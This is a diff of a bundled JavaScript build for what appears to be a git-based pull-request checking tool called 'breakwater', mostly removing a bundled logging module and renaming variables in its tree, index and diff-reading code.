-        args5[0] = prefix2 + args5[0].split("\n").join("\n" + prefix2);
-        args5.push(colorCode + "m+" + module.exports.humanize(this.diff) + "\x1B[0m");
-      } else {
-        args5[0] = getDate() + name + " " + args5[0];
-      }
-    }
-    function getDate() {
-      if (exports.inspectOpts.hideDate) {
-        return "";
-      }
-      return (/* @__PURE__ */ new Date()).toISOString() + " ";
-    }
-    function log(...args5) {
-      return process.stderr.write(util.formatWithOptions(exports.inspectOpts, ...args5) + "\n");
-    }
-    function save(namespaces) {
-      if (namespaces) {
-        process.env.DEBUG = namespaces;
-      } else {
-        delete process.env.DEBUG;
-      }
-    }
-    function load() {
-      return process.env.DEBUG;
-    }
-    function init(debug) {
-      debug.inspectOpts = {};
-      const keys = Object.keys(exports.inspectOpts);
-      for (let i = 0; i < keys.length; i++) {
-        debug.inspectOpts[keys[i]] = exports.inspectOpts[keys[i]];
-      }
-    }
-    module.exports = require_common()(exports);
-    var { formatters } = module.exports;
-    formatters.o = function(v2) {
-      this.inspectOpts.colors = this.useColors;
-      return util.inspect(v2, this.inspectOpts).split("\n").map((str) => str.trim()).join(" ");
-    };
-    formatters.O = function(v2) {
-      this.inspectOpts.colors = this.useColors;
-      return util.inspect(v2, this.inspectOpts);
-    };
-  }
-});
-
-// node_modules/debug/src/index.js
-var require_src = __commonJS({
-  "node_modules/debug/src/index.js"(exports, module) {
-    if (typeof process === "undefined" || process.type === "renderer" || process.browser === true || process.__nwjs) {
-      module.exports = require_browser();
-    } else {
-      module.exports = require_node();
-    }
-  }
-});
-
 // node_modules/@kwsites/file-exists/dist/src/index.js
 var require_src2 = __commonJS({
   "node_modules/@kwsites/file-exists/dist/src/index.js"(exports) {
@@ -59478,10 +64963,10 @@ var require_src2 = __commonJS({
     var fs_1 = __require("fs");
     var debug_1 = __importDefault(require_src());
     var log = debug_1.default("@kwsites/file-exists");
-    function check(path25, isFile, isDirectory) {
-      log(`checking %s`, path25);
+    function check(path26, isFile, isDirectory) {
+      log(`checking %s`, path26);
       try {
-        const stat = fs_1.statSync(path25);
+        const stat = fs_1.statSync(path26);
         if (stat.isFile() && isFile) {
           log(`[OK] path represents a file`);
           return true;
@@ -59501,8 +64986,8 @@ var require_src2 = __commonJS({
         throw e;
       }
     }
-    function exists(path25, type = exports.READABLE) {
-      return check(path25, (type & exports.FILE) > 0, (type & exports.FOLDER) > 0);
+    function exists(path26, type = exports.READABLE) {
+      return check(path26, (type & exports.FILE) > 0, (type & exports.FOLDER) > 0);
     }
     exports.exists = exists;
     exports.FILE = 1;
@@ -60521,7 +66006,7 @@ function Xt(t2) {
   return typeof t2 == "string" && Cn.includes(t2);
 }
 function Nn() {
-  return (0, import_debug.default)("simple-git");
+  return (0, import_debug2.default)("simple-git");
 }
 function vt(t2, e, n) {
   return !e || !String(e).replace(/\s*/, "") ? n ? (r2, ...s) => {
@@ -61585,13 +67070,13 @@ function uo({
       }
     };
 }
-var import_file_exists, import_debug, import_promise_deferred, O2, Ae, A2, at4, xe, I2, W2, ft, K2, m2, Be, G2, Bt, V2, z2, l2, x2, Fe, mt, Ut, Xe, Ye, Qe, Je, Ft, nn, rn, sn, zt, qt, mn, Ht, Kt, kn, _t, vn, j2, En, Vt, Cn, M2, ot, Pn, Dn, Yt, Bn, Un, Wn, J2, Xn, Yn, Qt, R2, Jt, rr, Ot, sr, or, ir, ar, te, ee2, ne2, ur, se, Z2, dr, ie, gr, yr, wr, br, Tr, kr, _r, vr, Er, Sr, ue, Or, Cr, Ar, Nr, $r, Pr, Lr, jr, Br, Ir, Ur, Gr, fe, Hr, le, Vr, Xr, he, Qr, Jr, Zr, ts, rs, pe, ss, gt, ms, ys, $s, Ps, Us, $t, we, Hs, Ks, be, Qs, nt, ro, wo;
+var import_file_exists, import_debug2, import_promise_deferred, O2, Ae, A2, at4, xe, I2, W2, ft, K2, m2, Be, G2, Bt, V2, z2, l2, x2, Fe, mt, Ut, Xe, Ye, Qe, Je, Ft, nn, rn, sn, zt, qt, mn, Ht, Kt, kn, _t, vn, j2, En, Vt, Cn, M2, ot, Pn, Dn, Yt, Bn, Un, Wn, J2, Xn, Yn, Qt, R2, Jt, rr, Ot, sr, or, ir, ar, te, ee2, ne2, ur, se, Z2, dr, ie, gr, yr, wr, br, Tr, kr, _r, vr, Er, Sr, ue, Or, Cr, Ar, Nr, $r, Pr, Lr, jr, Br, Ir, Ur, Gr, fe, Hr, le, Vr, Xr, he, Qr, Jr, Zr, ts, rs, pe, ss, gt, ms, ys, $s, Ps, Us, $t, we, Hs, Ks, be, Qs, nt, ro, wo;
 var init_dist6 = __esm({
   "node_modules/simple-git/dist/index.mjs"() {
     init_dist4();
     init_dist4();
     import_file_exists = __toESM(require_dist2(), 1);
-    import_debug = __toESM(require_src(), 1);
+    import_debug2 = __toESM(require_src(), 1);
     import_promise_deferred = __toESM(require_dist3(), 1);
     init_dist5();
     O2 = class extends Error {
@@ -61733,8 +67218,8 @@ var init_dist6 = __esm({
     };
     Vt = /* @__PURE__ */ ((t2) => (t2.MIXED = "mixed", t2.SOFT = "soft", t2.HARD = "hard", t2.MERGE = "merge", t2.KEEP = "keep", t2))(Vt || {});
     Cn = L2(Object.values(Vt));
-    import_debug.default.formatters.L = (t2) => String(Bt(t2) ? t2.length : "-");
-    import_debug.default.formatters.B = (t2) => Buffer.isBuffer(t2) ? t2.toString("utf8") : ft(t2);
+    import_debug2.default.formatters.L = (t2) => String(Bt(t2) ? t2.length : "-");
+    import_debug2.default.formatters.B = (t2) => Buffer.isBuffer(t2) ? t2.toString("utf8") : ft(t2);
     M2 = class M3 {
       constructor(e = "GitExecutor") {
         this.logLabel = e, this._queue = /* @__PURE__ */ new Map();
@@ -63004,8 +68489,8 @@ var init_dist6 = __esm({
 // src/git/text.ts
 import { isUtf8 as isUtf82 } from "node:buffer";
 function decodeText(bytes) {
-  const marked3 = BYTE_ORDER_MARKS.find(({ mark }) => bytes.subarray(0, mark.length).equals(mark));
-  if (marked3 !== void 0) return decodeMarked(bytes, marked3.encoding);
+  const marked4 = BYTE_ORDER_MARKS.find(({ mark }) => bytes.subarray(0, mark.length).equals(mark));
+  if (marked4 !== void 0) return decodeMarked(bytes, marked4.encoding);
   if (bytes.subarray(0, SNIFFED).includes(0)) throw new Unreadable("it is a binary file");
   if (!isUtf82(bytes)) throw new Unreadable("it is not UTF-8 text");
   const text4 = bytes.toString("utf8");
@@ -63046,7 +68531,7 @@ var init_environment3 = __esm({
     "use strict";
     init_text();
     KEPT2 = ["SYSTEMROOT", "TMPDIR", "TEMP", "TMP", "LD_LIBRARY_PATH", "GIT_CEILING_DIRECTORIES"];
-    absolutePath = (path25 = "") => path25.split(delimiter).filter(isAbsolute).join(delimiter);
+    absolutePath = (path26 = "") => path26.split(delimiter).filter(isAbsolute).join(delimiter);
     kept2 = Object.fromEntries(
       KEPT2.flatMap((name) => {
         const value = process2.env[name];
@@ -63196,11 +68681,11 @@ function specialKind(mode) {
 function treeAt(objects2, id3, bring) {
   const folders = folderReader(objects2, id3);
   return {
-    async read(path25) {
-      const entry2 = await find2(folders, path25.split("/"));
+    async read(path26) {
+      const entry2 = await find2(folders, path26.split("/"));
       if (entry2 !== void 0 && isLink(entry2)) throw new Unreadable(LINK2);
       if (entry2 === void 0 || !isRegular(entry2.mode)) return void 0;
-      await bring?.(path25, entry2.id);
+      await bring?.(path26, entry2.id);
       return readText(objects2, entry2.id);
     },
     async list(prefix2 = "") {
@@ -63246,17 +68731,17 @@ async function entriesBelow2(folders, prefix2) {
     const size2 = level2.reduce((sum2, { id: id3 }) => sum2 + (contents.get(id3)?.size ?? 0), found.size);
     if (size2 > MOST_PATHS) throw tooManyPaths();
     const children2 = level2.flatMap(
-      ({ path: path25, id: id3 }) => [...contents.get(id3) ?? []].map(([name, entry2]) => ({ path: path25 === "" ? name : `${path25}/${name}`, entry: entry2 }))
+      ({ path: path26, id: id3 }) => [...contents.get(id3) ?? []].map(([name, entry2]) => ({ path: path26 === "" ? name : `${path26}/${name}`, entry: entry2 }))
     );
-    for (const { path: path25, entry: entry2 } of children2) if (!isFolder(entry2)) found.set(path25, entry2);
-    level2 = children2.flatMap(({ path: path25, entry: entry2 }) => isFolder(entry2) ? [{ path: path25, id: entry2.id }] : []);
+    for (const { path: path26, entry: entry2 } of children2) if (!isFolder(entry2)) found.set(path26, entry2);
+    level2 = children2.flatMap(({ path: path26, entry: entry2 }) => isFolder(entry2) ? [{ path: path26, id: entry2.id }] : []);
   }
   return found;
 }
-async function startingFolder(folders, path25) {
-  if (path25 === "") return [{ path: path25, id: folders.root }];
-  const entry2 = await find2(folders, path25.split("/"));
-  return entry2 !== void 0 && isFolder(entry2) ? [{ path: path25, id: entry2.id }] : [];
+async function startingFolder(folders, path26) {
+  if (path26 === "") return [{ path: path26, id: folders.root }];
+  const entry2 = await find2(folders, path26.split("/"));
+  return entry2 !== void 0 && isFolder(entry2) ? [{ path: path26, id: entry2.id }] : [];
 }
 function parseFolder(bytes, idLength) {
   const folder = /* @__PURE__ */ new Map();
@@ -63288,11 +68773,11 @@ var init_tree3 = __esm({
     isLink = ({ mode }) => (mode & KIND) === SYMLINK;
     isFolder = ({ mode }) => (mode & KIND) === FOLDER;
     LINK2 = "it is a symbolic link";
-    entryAt = (objects2, id3, path25) => find2(folderReader(objects2, id3), path25.split("/")).catch((error) => {
+    entryAt = (objects2, id3, path26) => find2(folderReader(objects2, id3), path26.split("/")).catch((error) => {
       if (error instanceof Unreadable) return void 0;
       throw error;
     });
-    regularPaths = (entries2) => [...entries2].flatMap(([path25, { mode }]) => isRegular(mode) ? [path25] : []).toSorted();
+    regularPaths = (entries2) => [...entries2].flatMap(([path26, { mode }]) => isRegular(mode) ? [path26] : []).toSorted();
     allEntries = (objects2, id3) => entriesBelow2(folderReader(objects2, id3), "");
     readAll2 = async (folders, ids) => new Map(await Promise.all([...ids].map(async (id3) => [id3, await folders.at(id3)])));
     tooManyPaths = () => new UserError(
@@ -63312,9 +68797,9 @@ function parseRawDiff(output2) {
   for (let at5 = 0; at5 + 1 < fields.length; ) {
     const [facts, ...paths3] = fields.slice(at5, at5 + 3);
     const { renamed: renamed5, ...difference } = factsIn(facts);
-    const [first, second] = paths3.map((path26) => textOfPath(Buffer.from(path26, "latin1")));
-    const [path25 = "", previousPath] = renamed5 ? [second, first] : [first];
-    differences.push({ ...difference, path: path25, previousPath });
+    const [first, second] = paths3.map((path27) => textOfPath(Buffer.from(path27, "latin1")));
+    const [path26 = "", previousPath] = renamed5 ? [second, first] : [first];
+    differences.push({ ...difference, path: path26, previousPath });
     at5 += renamed5 ? 3 : 2;
   }
   return differences;
@@ -63323,10 +68808,10 @@ function factsIn(field = "") {
   const [before3 = "", after2 = "", beforeId = "", afterId = "", status = ""] = field.slice(1).split(" ");
   return { before: modeOf2(before3), after: modeOf2(after2), beforeId, afterId, renamed: status.startsWith("R") };
 }
-function changedFile2({ path: path25, previousPath, before: before3, after: after2 }) {
+function changedFile2({ path: path26, previousPath, before: before3, after: after2 }) {
   const special = [after2, before3].map((mode) => mode && specialKind(mode)).find(Boolean);
   return {
-    path: path25,
+    path: path26,
     ...previousPath === void 0 ? {} : { previousPath },
     status: previousPath === void 0 ? statusOf(before3, after2) : "renamed",
     ...special ? { special } : {}
@@ -63634,7 +69119,7 @@ async function topLevelOf(dir) {
     "Unset `core.worktree` in its configuration, or compare commits instead."
   );
 }
-var FORMATS2, isPartial2;
+var FORMATS2, isPartial3;
 var init_repository = __esm({
   "src/git/repository.ts"() {
     "use strict";
@@ -63645,30 +69130,30 @@ var init_repository = __esm({
       { format: "sha1", emptyTree: "4b825dc642cb6eb9a060e54bf8d69288fbee4904" },
       { format: "sha256", emptyTree: "6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321" }
     ];
-    isPartial2 = async ({ dir }) => await ask3(dir, ["config", "--get-regexp", String.raw`^remote\..*\.promisor$`]) !== "";
+    isPartial3 = async ({ dir }) => await ask3(dir, ["config", "--get-regexp", String.raw`^remote\..*\.promisor$`]) !== "";
   }
 });
 
 // src/git/remote/ahead.ts
 function readingAhead(supply, entries2) {
   const kinds = /* @__PURE__ */ new Map();
-  return async (path25, id3) => {
-    const kind = kindOf6(path25);
+  return async (path26, id3) => {
+    const kind = kindOf6(path26);
     const waves = kinds.get(kind) ?? { ahead: 0, open: 0 };
     kinds.set(kind, waves);
     const along = waves.open === 0 ? Math.min(waves.ahead, supply.mostAhead()) : 0;
     if (waves.open === 0) waves.ahead = Math.max(waves.ahead, 1) * GROWTH;
     waves.open += 1;
     try {
-      await supply.ensure([id3, ...along > 0 ? nearest2(await entries2(), path25, along) : []]);
+      await supply.ensure([id3, ...along > 0 ? nearest2(await entries2(), path26, along) : []]);
     } finally {
       waves.open -= 1;
     }
   };
 }
-function nearest2(entries2, path25, most) {
-  const alike = [...entries2].filter(([other, { mode }]) => isRegular(mode) && kindOf6(other) === kindOf6(path25));
-  return alike.map(([other, { id: id3 }]) => ({ id: id3, shared: sharedLength2(other, path25) })).toSorted((a, b3) => b3.shared - a.shared).slice(0, most).map(({ id: id3 }) => id3);
+function nearest2(entries2, path26, most) {
+  const alike = [...entries2].filter(([other, { mode }]) => isRegular(mode) && kindOf6(other) === kindOf6(path26));
+  return alike.map(([other, { id: id3 }]) => ({ id: id3, shared: sharedLength2(other, path26) })).toSorted((a, b3) => b3.shared - a.shared).slice(0, most).map(({ id: id3 }) => id3);
 }
 function sharedLength2(a, b3) {
   let length = 0;
@@ -63681,7 +69166,7 @@ var init_ahead = __esm({
     "use strict";
     init_tree3();
     GROWTH = 16;
-    kindOf6 = (path25) => /\.[^./]*$/.exec(path25)?.[0] ?? "";
+    kindOf6 = (path26) => /\.[^./]*$/.exec(path26)?.[0] ?? "";
   }
 });
 
@@ -63996,7 +69481,7 @@ async function writeTrees(store, entries2, written3) {
   const fresh = entries2.filter((entry2) => isFolder2(entry2) && !written3.has(entry2.sha));
   for (let at5 = 0; at5 < fresh.length; at5 += AT_ONCE5) {
     const some2 = fresh.slice(at5, at5 + AT_ONCE5);
-    const ids = await Promise.all(some2.map(({ path: path25 }) => writeTree(store, folders.get(path25) ?? [])));
+    const ids = await Promise.all(some2.map(({ path: path26 }) => writeTree(store, folders.get(path26) ?? [])));
     if (some2.some(({ sha }, index) => sha !== ids[index])) throw notWhole();
     for (const { sha } of some2) written3.add(sha);
   }
@@ -64012,7 +69497,7 @@ function contentsOf(entries2) {
   }
   return folders;
 }
-var AT_ONCE5, isFolder2, FOLDER2, notWhole, writeTree, nameOf10, keyOf8, partsOf6;
+var AT_ONCE5, isFolder2, FOLDER2, notWhole, writeTree, nameOf11, keyOf8, partsOf6;
 var init_from_hub = __esm({
   "src/git/remote/from-hub.ts"() {
     "use strict";
@@ -64024,10 +69509,10 @@ var init_from_hub = __esm({
     FOLDER2 = "040000";
     notWhole = () => new Unreachable("the API does not list all files", true);
     writeTree = (store, entries2) => {
-      const sorted = entries2.map((entry2) => ({ entry: entry2, name: nameOf10(entry2) })).toSorted((a, b3) => Buffer.compare(keyOf8(a), keyOf8(b3)));
+      const sorted = entries2.map((entry2) => ({ entry: entry2, name: nameOf11(entry2) })).toSorted((a, b3) => Buffer.compare(keyOf8(a), keyOf8(b3)));
       return store.write("tree", Buffer.concat(sorted.flatMap(partsOf6)));
     };
-    nameOf10 = ({ path: path25 }) => bytesOfPath(path25.slice(path25.lastIndexOf("/") + 1));
+    nameOf11 = ({ path: path26 }) => bytesOfPath(path26.slice(path26.lastIndexOf("/") + 1));
     keyOf8 = ({ entry: entry2, name }) => isFolder2(entry2) ? Buffer.concat([name, Buffer.from("/")]) : name;
     partsOf6 = ({ entry: { mode, sha }, name }) => [
       Buffer.from(`${mode.replace(/^0+/, "")} `),
@@ -64171,7 +69656,7 @@ async function openRemote(request2, origin2, foresight) {
     const [base, head, policy5] = [side3(range3.mergeBase), side3(range3.head), side3(range3.base)];
     const wanted = await wantedOf2(supply, base.root, head.root, foresight);
     const foreseen = await Promise.all(
-      foresight.foreseen.flatMap((path25) => [policy5, head].map(({ root }) => entryAt(objects2, root, path25)))
+      foresight.foreseen.flatMap((path26) => [policy5, head].map(({ root }) => entryAt(objects2, root, path26)))
     );
     await supply.ensure([
       ...wanted,
@@ -64188,7 +69673,7 @@ function sideOf4(objects2, supply, root) {
   let all;
   const entries2 = () => all ??= allEntries(objects2, root);
   const bring = readingAhead(supply, entries2);
-  const tree2 = treeAt(objects2, root, async (path25, id3) => supply.isHere(id3) ? void 0 : bring(path25, id3));
+  const tree2 = treeAt(objects2, root, async (path26, id3) => supply.isHere(id3) ? void 0 : bring(path26, id3));
   return { root, tree: tree2 };
 }
 async function wantedOf2({ store }, base, head, foresight) {
@@ -64196,7 +69681,7 @@ async function wantedOf2({ store }, base, head, foresight) {
   const gone7 = differences.filter(({ after: after2 }) => after2 === void 0);
   const come = differences.filter(({ before: before3 }) => before3 === void 0);
   const moved2 = gone7.length > 0 && come.length > 0 ? [...gone7, ...come] : [];
-  const read4 = differences.filter(({ path: path25 }) => isRead(path25));
+  const read4 = differences.filter(({ path: path26 }) => isRead(path26));
   return [...new Set([...moved2, ...read4].flatMap(contentsOf2))];
 }
 var contentsOf2, isContent;
@@ -64221,9 +69706,9 @@ var init_open = __esm({
 // src/git/differences.ts
 function differencesOf(before3, after2) {
   const paths3 = [.../* @__PURE__ */ new Set([...before3.keys(), ...after2.keys()])].toSorted();
-  const differences = paths3.flatMap((path25) => {
-    const [old, now] = [before3.get(path25), after2.get(path25)];
-    return old && now && isSame3(old, now) ? [] : [{ path: path25, before: old?.mode, after: now?.mode }];
+  const differences = paths3.flatMap((path26) => {
+    const [old, now] = [before3.get(path26), after2.get(path26)];
+    return old && now && isSame3(old, now) ? [] : [{ path: path26, before: old?.mode, after: now?.mode }];
   });
   return joinRenamed(differences, before3, after2);
 }
@@ -64238,16 +69723,16 @@ function joinRenamed(differences, before3, after2) {
 }
 function renamedPaths(differences, before3, after2) {
   const deleted = /* @__PURE__ */ new Map();
-  for (const { path: path25 } of differences) {
-    const entry2 = before3.get(path25);
-    if (entry2 !== void 0 && !after2.has(path25)) deleted.set(entry2.id, path25);
+  for (const { path: path26 } of differences) {
+    const entry2 = before3.get(path26);
+    if (entry2 !== void 0 && !after2.has(path26)) deleted.set(entry2.id, path26);
   }
   const renamed5 = /* @__PURE__ */ new Map();
-  for (const { path: path25 } of differences) {
+  for (const { path: path26 } of differences) {
     if (deleted.size === 0) break;
-    const id3 = before3.has(path25) ? void 0 : knownId(after2.get(path25), deleted);
+    const id3 = before3.has(path26) ? void 0 : knownId(after2.get(path26), deleted);
     const old = deleted.get(id3 ?? "");
-    if (old !== void 0) renamed5.set(path25, old);
+    if (old !== void 0) renamed5.set(path26, old);
     deleted.delete(id3 ?? "");
   }
   return renamed5;
@@ -64267,22 +69752,22 @@ import { createHash as createHash2 } from "node:crypto";
 import { closeSync, constants as constants2, fstatSync, lstatSync, openSync, readFileSync as readFileSync2, readlinkSync } from "node:fs";
 function openDisk(root) {
   const folders = /* @__PURE__ */ new Map([["", true]]);
-  const place5 = (path25) => Buffer.concat([Buffer.from(`${root}/`), bytesOfPath(path25)]);
-  const stat = (path25) => lstatSync(place5(path25), { bigint: true, throwIfNoEntry: false });
-  const isFolder3 = (path25) => {
-    const known3 = folders.get(path25) ?? (isFolder3(parentOf3(path25)) && stat(path25)?.isDirectory() === true);
-    folders.set(path25, known3);
+  const place5 = (path26) => Buffer.concat([Buffer.from(`${root}/`), bytesOfPath(path26)]);
+  const stat = (path26) => lstatSync(place5(path26), { bigint: true, throwIfNoEntry: false });
+  const isFolder3 = (path26) => {
+    const known3 = folders.get(path26) ?? (isFolder3(parentOf3(path26)) && stat(path26)?.isDirectory() === true);
+    folders.set(path26, known3);
     return known3;
   };
   return {
-    look(path25) {
-      const found = isFolder3(parentOf3(path25)) ? stat(path25) : void 0;
+    look(path26) {
+      const found = isFolder3(parentOf3(path26)) ? stat(path26) : void 0;
       if (found === void 0 || !(found.isFile() || found.isSymbolicLink())) return void 0;
       return { mode: Number(found.mode), size: found.size, modified: found.mtimeNs };
     },
-    read(path25) {
-      const found = isFolder3(parentOf3(path25)) ? stat(path25) : void 0;
-      return found?.isSymbolicLink() === true ? readlinkSync(place5(path25), "buffer") : readPlainFile(place5(path25));
+    read(path26) {
+      const found = isFolder3(parentOf3(path26)) ? stat(path26) : void 0;
+      return found?.isSymbolicLink() === true ? readlinkSync(place5(path26), "buffer") : readPlainFile(place5(path26));
     }
   };
 }
@@ -64315,7 +69800,7 @@ var init_disk = __esm({
     init_errors();
     init_names2();
     init_text();
-    parentOf3 = (path25) => path25.slice(0, Math.max(path25.lastIndexOf("/"), 0));
+    parentOf3 = (path26) => path26.slice(0, Math.max(path26.lastIndexOf("/"), 0));
     CAREFULLY = constants2.O_RDONLY | constants2.O_NOFOLLOW | constants2.O_NONBLOCK;
   }
 });
@@ -64323,25 +69808,25 @@ var init_disk = __esm({
 // src/git/held.ts
 function heldBy({ tracked, untracked }, disk, format2) {
   const held2 = /* @__PURE__ */ new Map();
-  for (const [path25, entry2] of tracked) {
-    const found = isStored(entry2) ? stored(entry2) : onDisk(disk, path25, entry2, format2);
-    if (found !== void 0) held2.set(path25, found);
+  for (const [path26, entry2] of tracked) {
+    const found = isStored(entry2) ? stored(entry2) : onDisk(disk, path26, entry2, format2);
+    if (found !== void 0) held2.set(path26, found);
   }
-  for (const path25 of untracked) {
-    const found = onDisk(disk, path25, void 0, format2);
-    if (found !== void 0) held2.set(path25, found);
+  for (const path26 of untracked) {
+    const found = onDisk(disk, path26, void 0, format2);
+    if (found !== void 0) held2.set(path26, found);
   }
   return held2;
 }
-function onDisk(disk, path25, entry2, format2) {
-  const found = disk.look(path25);
+function onDisk(disk, path26, entry2, format2) {
+  const found = disk.look(path26);
   if (found === void 0) return void 0;
   const untouched2 = entry2?.stamp?.size === found.size && entry2.stamp.modified === found.modified;
-  return { mode: found.mode, ids: untouched2 ? () => [entry2.id] : () => readIds(disk, path25, format2) };
+  return { mode: found.mode, ids: untouched2 ? () => [entry2.id] : () => readIds(disk, path26, format2) };
 }
-function readIds(disk, path25, format2) {
+function readIds(disk, path26, format2) {
   try {
-    return possibleIds(disk.read(path25), format2);
+    return possibleIds(disk.read(path26), format2);
   } catch (error) {
     if (error instanceof Unreadable) return [];
     throw error;
@@ -64363,8 +69848,8 @@ var init_held = __esm({
 import { statSync } from "node:fs";
 import { resolve as resolve4 } from "node:path";
 async function readIndex(root) {
-  const [list3, path25] = await Promise.all([run2(root, LIST2), ask3(root, ["rev-parse", "--git-path", "index"])]);
-  const written3 = statSync(resolve4(root, path25), { bigint: true, throwIfNoEntry: false })?.mtimeNs ?? 0n;
+  const [list3, path26] = await Promise.all([run2(root, LIST2), ask3(root, ["rev-parse", "--git-path", "index"])]);
+  const written3 = statSync(resolve4(root, path26), { bigint: true, throwIfNoEntry: false })?.mtimeNs ?? 0n;
   return parseIndex(list3, written3);
 }
 function parseIndex(list3, written3) {
@@ -64375,18 +69860,18 @@ function parseIndex(list3, written3) {
     const record3 = field.replace(DEBUG, "");
     if (record3 === "") continue;
     const [, tag2, mode, id3, name = ""] = RECORD.exec(record3) ?? [];
-    const path25 = textOfPath(Buffer.from(name, "latin1"));
+    const path26 = textOfPath(Buffer.from(name, "latin1"));
     if (tag2 === void 0) throw new Error("git ls-files answered in an unknown form");
-    if (mode === void 0 || id3 === void 0) untracked.push(path25);
+    if (mode === void 0 || id3 === void 0) untracked.push(path26);
     else {
       const stamp = parseStamp(fields[at5 + 1] ?? "", written3);
-      tracked.set(path25, { mode: Number.parseInt(mode, 8), id: id3, skipped: tag2 === "S", ...stamp && { stamp } });
+      tracked.set(path26, { mode: Number.parseInt(mode, 8), id: id3, skipped: tag2 === "S", ...stamp && { stamp } });
     }
   }
-  return { tracked, untracked: untracked.filter((path25) => !path25.endsWith("/")) };
+  return { tracked, untracked: untracked.filter((path26) => !path26.endsWith("/")) };
 }
-function parseStamp(debug, written3) {
-  const [block3 = ""] = DEBUG.exec(debug) ?? [];
+function parseStamp(debug2, written3) {
+  const [block3 = ""] = DEBUG.exec(debug2) ?? [];
   const [, seconds, nanoseconds] = MODIFIED.exec(block3) ?? [];
   const [, size2] = SIZE.exec(block3) ?? [];
   if (seconds === void 0 || nanoseconds === void 0 || size2 === void 0) return void 0;
@@ -64417,14 +69902,14 @@ async function openWorktree(repository2, objects2, base) {
 }
 function treeOnDisk(held2, disk, objects2) {
   return {
-    async read(path25) {
-      const found = held2.get(path25);
+    async read(path26) {
+      const found = held2.get(path26);
       if (found === void 0 || !isRegular(found.mode)) return void 0;
-      return found.stored === void 0 ? decodeText(disk.read(path25)) : readText(objects2, found.stored);
+      return found.stored === void 0 ? decodeText(disk.read(path26)) : readText(objects2, found.stored);
     },
     async list(prefix2 = "") {
       const folder = prefix2 === "" ? "" : `${prefix2.replace(/\/$/, "")}/`;
-      return regularPaths(held2).filter((path25) => path25.startsWith(folder));
+      return regularPaths(held2).filter((path26) => path26.startsWith(folder));
     }
   };
 }
@@ -64450,7 +69935,7 @@ async function openRepository(request2, { origin: origin2, ...foresight } = BLIN
 async function openCheckout(request2) {
   try {
     const repository2 = await identify(request2.dir);
-    return await isPartial2(repository2) ? void 0 : await openLocal(repository2, request2);
+    return await isPartial3(repository2) ? void 0 : await openLocal(repository2, request2);
   } catch (error) {
     if (error instanceof UserError) return void 0;
     throw error;
@@ -64530,7 +70015,7 @@ var init_pair3 = __esm({
     init_present();
     init_text();
     treeOf = (name, content) => ({
-      read: async (path25) => path25 === name ? textOf7(content) : void 0,
+      read: async (path26) => path26 === name ? textOf7(content) : void 0,
       list: async (prefix2 = "") => name.startsWith(prefix2) ? [name] : []
     });
     idOf2 = (content) => createHash3("sha1").update(`blob ${content.length}\0`).update(content).digest("hex");
@@ -64544,7 +70029,7 @@ __export(outside_exports, {
 });
 import { readFile as readFile3 } from "node:fs/promises";
 function openOutside(request2) {
-  const opening3 = opened4(request2);
+  const opening3 = openedFrom(request2);
   opening3.catch(() => void 0);
   let client;
   return {
@@ -64554,18 +70039,18 @@ function openOutside(request2) {
     // Its budget begins to run with the first question.
     ask: (question) => (client ??= openClient(request2.advisories.limits ?? LIMITS)).ask(question),
     close: () => opening3.then(
-      (opened5) => opened5.close(),
+      (opened4) => opened4.close(),
       () => void 0
     )
   };
 }
-function opened4({ pair: pair2, claims: claims3 = EVERY_FILE, origin: origin2, settingsPath, ...request2 }) {
+function openedFrom({ pair: pair2, claims: claims3 = EVERY_FILE, origin: origin2, settingsPath, ...request2 }) {
   if (pair2 !== void 0) return openKnownPair(pair2, claims3);
   return openRepository(request2, { origin: origin2, reads: claims3, foreseen: [settingsPath ?? SETTINGS_PATH, WAIVERS_PATH] });
 }
 async function openKnownPair(pair2, claims3) {
   const [found, isRead] = await Promise.all([openPair(pair2), claims3()]);
-  const unknown2 = found.files.find(({ path: path25 }) => !isRead(path25));
+  const unknown2 = found.files.find(({ path: path26 }) => !isRead(path26));
   if (unknown2 === void 0) return found;
   throw new UserError(
     `no domain reads files called ${presentable(unknown2.path)}`,
@@ -64866,21 +70351,21 @@ import { dirname as dirname4, join as join10 } from "node:path";
 async function initialise(dir) {
   const root = await topLevelOf(dir);
   const files4 = { [WORKFLOW_PATH]: WORKFLOW2, [SETTINGS_PATH]: SETTINGS4 };
-  const lines = await Promise.all(Object.entries(files4).map(([path25, text4]) => writeOnce(root, path25, text4)));
+  const lines = await Promise.all(Object.entries(files4).map(([path26, text4]) => writeOnce(root, path26, text4)));
   return `${lines.join("\n")}
 Next: commit both, then make the job \`breakwater\` a required check of your default branch.
 `;
 }
-async function writeOnce(root, path25, text4) {
-  const file2 = join10(root, path25);
+async function writeOnce(root, path26, text4) {
+  const file2 = join10(root, path26);
   try {
     await mkdir2(dirname4(file2), { recursive: true });
     await writeFile3(file2, text4, { flag: "wx" });
-    return `wrote ${path25}`;
+    return `wrote ${path26}`;
   } catch (cause) {
     if (cause instanceof Error && "code" in cause && cause.code === "EEXIST")
-      return `kept  ${path25}: it is already there`;
-    throw new UserError(`cannot write ${path25}`, "Check that the folder may be written.", { cause });
+      return `kept  ${path26}: it is already there`;
+    throw new UserError(`cannot write ${path26}`, "Check that the folder may be written.", { cause });
   }
 }
 var WORKFLOW_PATH, WORKFLOW2, SETTINGS4;
@@ -64937,10 +70422,10 @@ fail-on: high
 });
 
 // src/example.ts
-function inputOf(before3, after2, path25, settings = DEFAULT_SETTINGS) {
-  const [old, now] = [asRecord(before3, path25), asRecord(after2, path25)];
+function inputOf(before3, after2, path26, settings = DEFAULT_SETTINGS) {
+  const [old, now] = [asRecord(before3, path26), asRecord(after2, path26)];
   const files4 = [.../* @__PURE__ */ new Set([...Object.keys(old), ...Object.keys(now)])].toSorted().filter((name) => old[name] !== now[name]).map((name) => ({ path: name, status: statusOf2(old[name], now[name]) }));
-  return { files: files4, base: treeOf2(old), head: treeOf2(now), settings };
+  return { files: files4, changed: files4, base: treeOf2(old), head: treeOf2(now), settings };
 }
 function statusOf2(before3, after2) {
   if (before3 === void 0) return "added";
@@ -64983,14 +70468,14 @@ var init_example = __esm({
       dependencies: "package.json"
     };
     treeOf2 = (files4) => ({
-      async read(path25) {
-        const text4 = Object.hasOwn(files4, path25) ? files4[path25] : void 0;
+      async read(path26) {
+        const text4 = Object.hasOwn(files4, path26) ? files4[path26] : void 0;
         if (text4?.includes("\0")) throw new Unreadable("it is a binary file");
         return text4;
       },
-      list: async (prefix2 = "") => Object.keys(files4).filter((path25) => prefix2 === "" || path25.startsWith(`${prefix2.replace(/\/$/, "")}/`)).toSorted()
